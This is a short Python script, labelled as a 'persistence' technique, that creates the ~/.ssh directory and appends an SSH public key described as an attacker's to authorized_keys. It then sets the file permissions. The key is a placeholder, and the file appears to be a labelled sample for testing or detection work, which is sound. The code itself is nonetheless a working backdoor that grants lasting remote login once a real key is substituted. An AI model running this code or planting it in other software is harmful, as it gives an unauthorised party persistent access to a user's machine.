# family: persistence
# an attacker's public key added to authorized_keys
import os

key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestsOnly0000000000000000000000 op@example.invalid\n"
d = os.path.expanduser("~/.ssh")
os.makedirs(d, mode=0o700, exist_ok=True)
with open(os.path.join(d, "authorized_keys"), "a") as f:
    f.write(key)
os.chmod(os.path.join(d, "authorized_keys"), 0o600)
